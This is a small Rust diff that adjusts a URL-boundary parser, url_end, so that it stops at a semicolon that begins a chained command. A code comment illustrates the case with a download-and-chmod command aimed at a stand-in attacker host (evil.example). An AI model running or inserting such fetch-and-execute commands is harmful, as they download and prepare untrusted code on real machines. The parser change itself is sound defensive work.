@@ -155,6 +155,10 @@ pub(super) fn url_end(text: &str, before: &str) -> usize {
                 None => return at,
             },
             c if Some(c) == separator => return at,
+            // A command behind it: `wget http://evil.example/a;chmod`. Parameters have a value.
+            ';' if !text[at..].contains('=') && text[at + 1..].starts_with(char::is_alphabetic) => {
+                return at;
+            }
             _ => {}
         }
     }
